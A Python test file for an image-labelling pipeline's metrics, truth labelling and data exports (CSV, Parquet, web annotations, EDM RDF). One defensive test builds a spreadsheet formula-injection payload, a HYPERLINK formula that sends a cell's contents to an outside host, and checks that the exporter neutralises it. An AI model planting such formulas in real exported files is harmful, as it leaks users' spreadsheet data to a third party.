"""Figures that can be checked by hand, what a collection says is true, and the files that people take away."""

import csv
import json
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any
from xml.etree import ElementTree

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipeline.collection import CollectionRow
from pipeline.database.ledger import State
from pipeline.datasets.lake import Lake, as_table, open_lake
from pipeline.datasets.run import Run
from pipeline.datasets.schemas import SCHEMAS, features_schema
from pipeline.domain.annotation import annotation_errors
from pipeline.domain.scope import Scope, Selection
from pipeline.errors import PoisonedResultError
from pipeline.reporting import exports
from pipeline.reporting.edm import NAMESPACES
from pipeline.reporting.exports import annotation_document, write_exports
from pipeline.reporting.metrics import average_precision, calibration_error, evaluate
from pipeline.reporting.truth import label_row
from pipeline.settings import PROJECT_ROOT, Settings
from pipeline.vocabulary import Vocabulary, load_vocabulary

NOON = datetime(2026, 1, 1, 12, tzinfo=UTC)
ABOUT = f"{{{NAMESPACES['rdf']}}}about"
RUN = Run("r1", "default", Selection("query", "*:*"), Scope("full"), NOON)
MODEL = {
    "model_name": "default",
    "model_version": "3",
    "model_sha256": "0" * 64,
    "preprocessing_version": "1",
    "vocabulary_version": "v",
}
VOCABULARY = """
concepts:
  - slug: painting
    kind: type
    labels: {en: Painting, nl: Schilderij}
    europeana: http://data.europeana.eu/concept/47
    wikidata: http://www.wikidata.org/entity/Q1
  - slug: map
    kind: type
    labels: {en: Old map}
    aat: http://vocab.getty.edu/aat/1
  - slug: material:wood
    kind: material
    labels: {en: Wood}
  - slug: material:paper
    kind: material
    labels: {en: Paper}
"""


@pytest.fixture
def vocabulary(tmp_path: Path) -> Vocabulary:
    (tmp_path / "concepts.yaml").write_text(VOCABULARY)
    return load_vocabulary(tmp_path / "concepts.yaml", base_url="urn:test")


# --- Figures ---


def test_the_figures_are_those_one_counts_by_hand() -> None:
    scores = np.array([[0.9, 0.1], [0.8, 0.2], [0.7, 0.9], [0.6, 0.4], [0.2, 0.3], [0.1, 0.6]])
    truth = np.array([[1, 0], [1, 0], [0, 1], [1, -1], [1, 0], [1, -1]], dtype=np.int8)
    published = scores >= 0.75
    found = evaluate(["a", "b"], scores, truth, published)
    one, other = found["per_concept"]["a"], found["per_concept"]["b"]
    assert (one["n_pos"], one["n_known"], other["n_pos"], other["n_known"]) == (5, 6, 1, 4)
    assert (one["precision"], one["recall"], one["f1"]) == (0.75, 0.6, 0.6667)
    assert (other["precision"], other["recall"], other["ap"]) == (1.0, 1.0, 1.0)
    # Only the first concept has the five positives that a macro figure asks for.
    assert (found["n_concepts"], found["macro_f1"]) == (1, 0.6667)
    assert found["macro_ap"] == pytest.approx((1 + 1 + 3 / 4 + 4 / 5 + 5 / 6) / 5, abs=1e-4)
    assert (found["published_n"], found["published_precision"], found["published_recall"]) == (3, 1.0, 0.5)
    # 5 said and 4 right, of 6 that are true.
    assert found["micro_f1"] == pytest.approx(2 * 0.8 * (4 / 6) / (0.8 + 4 / 6), abs=1e-3)


def test_nothing_known_gives_no_figures_and_no_error() -> None:
    found = evaluate(["a"], np.full((3, 1), 0.5), np.full((3, 1), -1, dtype=np.int8), np.ones((3, 1), dtype=bool))
    assert (found["macro_ap"], found["published_n"], found["published_precision"], found["ece"]) == (None, 0, None, 0.0)


def test_average_precision_leaves_unknown_rows_out_and_needs_a_positive() -> None:
    scores = np.array([0.9, 0.8, 0.7, 0.6])
    assert average_precision(scores, np.array([1, -1, 0, 1], dtype=np.int8)) == pytest.approx((1 + 2 / 3) / 2)
    assert average_precision(scores, np.array([0, -1, 0, 0], dtype=np.int8)) is None


def test_the_calibration_error_is_zero_for_honest_scores_and_the_gap_for_boastful_ones() -> None:
    truth = np.array([1, 0] * 50, dtype=np.int8)
    assert calibration_error(np.full(100, 0.5), truth) == 0
    assert calibration_error(np.full(100, 0.9), truth) == pytest.approx(0.4)
    assert calibration_error(np.full(100, 1.0), np.ones(100, dtype=np.int8)) == 0


@given(st.lists(st.tuples(st.floats(0, 1), st.sampled_from([0, 1])), max_size=60))
def test_the_calibration_error_is_a_share(rows: list[tuple[float, int]]) -> None:
    scores, truth = np.array([score for score, _ in rows]), np.array([true for _, true in rows], dtype=np.int8)
    assert 0 <= calibration_error(scores, truth) <= 1


# --- Truth ---

SLUGS = ["painting", "map", "material:wood", "material:paper"]


@pytest.mark.parametrize(
    ("concepts", "not_annotated", "expected"),
    [
        (("painting",), (), [1, 0, 0, 0]),
        (("https://data.europeana.eu/concept/base/47",), (), [1, 0, 0, 0]),
        (("painting", "no-such-thing"), ("map",), [1, -1, 0, 0]),
        (("painting",), ("http://vocab.getty.edu/page/aat/1",), [1, -1, 0, 0]),
        # "material" stands for every material; what is said is known all the same.
        (("material:wood",), ("material",), [0, 0, 1, -1]),
        (("map",), ("map",), [0, 1, 0, 0]),
        ((), (), [0, 0, 0, 0]),
    ],
)
def test_a_row_says_true_false_or_unknown_of_every_concept(
    vocabulary: Vocabulary, concepts: tuple[str, ...], not_annotated: tuple[str, ...], expected: list[int]
) -> None:
    row = CollectionRow("/1/a", "a.jpg", concepts=concepts, not_annotated=not_annotated)
    assert label_row(row, vocabulary, SLUGS) == expected


# --- Exports ---


def label(record: str, slug: str, uri: str, decision: str, score: float) -> dict[str, Any]:
    return {
        "record_id": record,
        "image_id": "1" * 64,
        "image_url": f"http://x.org{record}.jpg",
        "concept_uri": uri,
        "label": slug,
        "score": score,
        "raw_score": score,
        "threshold": 0.8,
        "decision": decision,
        "why": "threshold",
        "rank": 1,
        "provider": "P",
    }


def annotation(record: str, remote_id: str | None, **changes: Any) -> dict[str, Any]:
    return {
        "record_id": record,
        "concept_uri": "http://data.europeana.eu/concept/47",
        "body_uri": "http://www.wikidata.org/entity/Q1",
        "target": "europeana",
        "state": "sent",
        "remote_id": remote_id,
        "canonical": "urn:uuid:x",
        "score": 0.9,
        "stated_at": NOON,
        "stated_by_run": "r0",
        "detail": "",
    } | changes


def publish(lake: Lake, dataset: str, rows: list[dict[str, Any]]) -> None:
    table = as_table(dataset, [row | MODEL | RUN.columns() for row in rows])
    lake.publish(RUN, dataset, [lake.write_part(RUN, dataset, 0, [table], SCHEMAS[dataset])])


def exported(
    folder: Path,
    vocabulary: Vocabulary,
    *,
    labels: list[dict[str, Any]] = [],  # noqa: B006
    suggestions: list[dict[str, Any]] = [],  # noqa: B006
    annotations: list[dict[str, Any]] = [],  # noqa: B006
    **changes: Any,
) -> Path:
    settings = Settings(_env_file=None, var_dir=folder / "var", **changes)
    lake = open_lake(settings)
    for dataset, rows in {"labels": labels, "suggestions": suggestions, "annotations": annotations}.items():
        publish(lake, dataset, rows)
    target = folder / "exports"
    target.mkdir()
    names = write_exports(lake, RUN, target, vocabulary, settings)
    assert names == sorted(path.name for path in target.iterdir())
    return target


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_the_label_table_has_the_agreed_columns_and_leaves_out_what_was_dropped(tmp_path: Path, vocabulary: Vocabulary) -> None:
    labels = [
        label("/1/a", "painting", "http://data.europeana.eu/concept/47", "publish", 0.98766),
        label("/1/a", "map", "http://vocab.getty.edu/aat/1", "hidden", 0.1),
        label("/1/b", "map", "http://vocab.getty.edu/aat/1", "drop", 0.01),
    ]
    folder = exported(tmp_path, vocabulary, labels=labels, label_language="nl, en")
    rows = read_csv(folder / "labels.csv")
    assert rows[0] == {
        "category": "painting",
        "skos_concept": "http://data.europeana.eu/concept/47",
        "URI": "http://data.europeana.eu/item/1/a",
        "ID": "/1/a",
        "URL": "http://x.org/1/a.jpg",
        "score": "0.9877",
        "decision": "publish",
        "model": "default@3",
        "label_nl": "Schilderij",
        "label_en": "Painting",
    }
    # A language without a label of its own falls back to English.
    assert rows[1]["label_nl"] == "Old map"
    assert len(rows) == 2
    assert pq.read_table(folder / "labels.parquet").num_rows == 3


GOLDEN = Path(__file__).parent / "golden"


def test_the_label_table_is_byte_for_byte_the_one_that_was_agreed(tmp_path: Path, vocabulary: Vocabulary) -> None:
    labels = [
        label("/1/a", "painting", "http://data.europeana.eu/concept/47", "publish", 0.98766),
        label("/1/a", "map", "http://vocab.getty.edu/aat/1", "review", 0.5) | {"image_url": 'http://x.org/"größe",1.jpg'},
        label("/1/b", "map", "http://vocab.getty.edu/aat/1", "hidden", 0.0001),
    ]
    folder = exported(tmp_path, vocabulary, labels=labels, label_language="en,nl")
    assert (folder / "labels.csv").read_bytes() == (GOLDEN / "labels.csv").read_bytes()


def test_the_schemas_are_those_that_were_published() -> None:
    """A change of columns changes golden/schemas.txt, raises the schema's version and is told in docs/labels.md."""
    schemas = {**SCHEMAS, "features (of a model of 2 concepts, 4 numbers wide)": features_schema(4, concepts=2)}
    lines = [
        f"{dataset} {(schema.metadata or {})[b'schema_version'].decode()}\n"
        + "".join(f"  {field.name}: {field.type}{'' if field.nullable else ' not null'}\n" for field in schema)
        for dataset, schema in sorted(schemas.items())
        if dataset.startswith(("labels", "record_labels", "features", "score_histograms", "outcomes"))
    ]
    assert "".join(lines) == (GOLDEN / "schemas.txt").read_text()


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_no_cell_is_taken_for_a_formula_by_a_spreadsheet(tmp_path: Path, vocabulary: Vocabulary, start: str) -> None:
    evil = f'{start}HYPERLINK("http://x.org?"&A1;"prize")'
    row = label("/1/a", "map", "urn:map", "hidden", 0.1) | {"image_url": evil}
    vocabulary = Vocabulary(
        vocabulary.version,
        tuple(replace(one, labels={"en": evil}) if one.slug == "map" else one for one in vocabulary.concepts),
    )
    with (exported(tmp_path, vocabulary, labels=[row]) / "labels.csv").open(encoding="utf-8", newline="") as handle:
        (read,) = csv.DictReader(handle)
    assert read["URL"].replace("\r\n", "\n") == read["label_en"].replace("\r\n", "\n") == f"'{evil}".replace("\r\n", "\n")
    assert (read["ID"], read["skos_concept"]) == ("/1/a", "urn:map")


@given(st.lists(st.tuples(st.text(), st.floats(0, 1, width=32)), max_size=20))
def test_every_reader_of_rfc_4180_gets_back_what_was_written(rows: list[tuple[str, float]]) -> None:
    with TemporaryDirectory() as name:
        path = Path(name) / "some.csv"
        texts = pa.array([text for text, _ in rows], pa.string())
        exports._write_csv(
            path, iter([pa.table({"text": texts, "score": pa.array([score for _, score in rows], pa.float64())})])
        )
        content = path.read_bytes()
        with path.open(encoding="utf-8", newline="") as handle:
            read = list(csv.reader(handle))
    assert content.endswith(b"\r\n") and content.count(b"\n") == content.count(b"\r\n")
    assert [text for text, _ in read[1:]] == [text.replace("\n", "\r\n") for text, _ in rows]
    assert [float(score) for _, score in read[1:]] == [score for _, score in rows]


def test_every_file_states_the_licence_and_an_empty_run_still_has_headers(tmp_path: Path, vocabulary: Vocabulary) -> None:
    folder = exported(tmp_path, vocabulary)
    assert "publicdomain/zero" in (folder / "LICENCE.txt").read_text()
    for name in ("labels", "suggestions"):
        assert b"publicdomain/zero" in (pq.read_schema(folder / f"{name}.parquet").metadata or {})[b"licence"]
        assert (folder / f"{name}.csv").read_text().count("\n") == 1
    assert (folder / "labels.csv").read_text().startswith('"category","skos_concept","URI","ID","URL","score","decision"')
    assert (folder / "annotations.jsonl").read_text() == ""


def test_suggestions_are_written_with_their_reasons(tmp_path: Path, vocabulary: Vocabulary) -> None:
    suggestion = {
        "record_id": "/1/a",
        "related_record_id": "/1/b",
        "rank": 1,
        "score": 0.87654,
        "visual_similarity": 0.5,
        "shared_concepts": ["painting", "map"],
        "reasons": ["visual", "concept:painting"],
    }
    (row,) = read_csv(exported(tmp_path, vocabulary, suggestions=[suggestion]) / "suggestions.csv")
    assert (row["shared_concepts"], row["reasons"], row["score"]) == ("painting;map", "visual;concept:painting", "0.8765")


def test_annotations_are_web_annotations_one_a_line(tmp_path: Path, vocabulary: Vocabulary) -> None:
    rows = [annotation("/1/a", "http://data.europeana.eu/annotation/7"), annotation("/1/b", None)]
    folder = exported(tmp_path, vocabulary, annotations=rows, public_base_url="http://portal.example.org/")
    documents = [json.loads(line) for line in (folder / "annotations.jsonl").read_text().splitlines()]
    assert [annotation_errors(document) for document in documents] == [[], []]
    assert documents[0]["id"] == "http://data.europeana.eu/annotation/7"
    assert documents[1]["id"] == documents[1]["canonical"]
    assert {document["via"] for document in documents} == {"http://portal.example.org/runs/r0"}
    assert {document["created"] for document in documents} == {"2026-01-01T12:00:00Z"}


def test_what_we_do_not_stand_by_is_in_no_export(tmp_path: Path, vocabulary: Vocabulary) -> None:
    states = [*State, "not_sent"]
    rows = [annotation(f"/1/{state}", None, state=str(state)) for state in states]
    folder = exported(tmp_path, vocabulary, annotations=rows)
    stated = ["planned", "sending", "sent", "duplicate", "updating", "not_sent"]
    documents = [json.loads(line) for line in (folder / "annotations.jsonl").read_text().splitlines()]
    assert [document["target"].rpartition("/")[2] for document in documents] == stated
    objects = ElementTree.parse(folder / "enrichments.rdf").getroot().findall(f"{{{NAMESPACES['edm']}}}ProvidedCHO")
    assert [one.get(ABOUT, "").rpartition("/")[2] for one in objects] == stated


def test_enrichments_are_edm_with_their_score_and_a_concept_has_its_names(tmp_path: Path) -> None:
    vocabulary = load_vocabulary(PROJECT_ROOT / "vocab" / "concepts.yaml", base_url="urn:test")
    of_kind = {concept.kind: concept for concept in reversed(vocabulary.concepts) if concept.body_uri}
    concepts = [of_kind[kind] for kind in ("type", "material", "subject")]
    rows = [
        annotation("/1/a", None, body_uri=concept.body_uri, concept_uri=concept.concept_uri, score=score)
        for concept, score in zip(concepts, (0.98766, 0.9, 1.0), strict=True)
    ]
    folder = exported(tmp_path, vocabulary, annotations=[*rows, annotation("/1/b", None, body_uri="http://x.org/?a&b")])
    root = ElementTree.parse(folder / "enrichments.rdf").getroot()
    rdf, dc, terms, edm, skos = (f"{{{NAMESPACES[name]}}}" for name in ("rdf", "dc", "dcterms", "edm", "skos"))
    first, second = root.findall(f"{edm}ProvidedCHO")
    assert first.get(ABOUT) == "http://data.europeana.eu/item/1/a"
    assert [one.tag for one in first] == [f"{dc}type", f"{terms}medium", f"{dc}subject"]
    assert [one.get(f"{rdf}resource") for one in first] == [concept.body_uri for concept in concepts]
    assert [one.get(f"{edm}confidenceLevel") for one in first] == ["0.9877", "0.9000", "1.0000"]
    assert {one.get(f"{edm}wasGeneratedBy") for one in first} == {"SoftwareAgent"}
    assert [(one.tag, one.get(f"{rdf}resource")) for one in second] == [(f"{dc}subject", "http://x.org/?a&b")]  # unknown by now
    described = {one.get(ABOUT): one for one in root.findall(f"{skos}Concept")}
    names = described[concepts[0].body_uri].findall(f"{skos}prefLabel")
    assert {name.get("{http://www.w3.org/XML/1998/namespace}lang"): name.text for name in names} == dict(concepts[0].labels)


def test_without_a_public_address_an_annotation_names_no_page() -> None:
    assert "via" not in annotation_document(annotation("/1/a", None), Settings(_env_file=None, public_base_url=""))


def test_an_annotation_that_is_none_blocks_the_export(tmp_path: Path, vocabulary: Vocabulary) -> None:
    with pytest.raises(PoisonedResultError, match="/1/a"):
        exported(tmp_path, vocabulary, annotations=[annotation("/1/a", None, body_uri="no uri")])
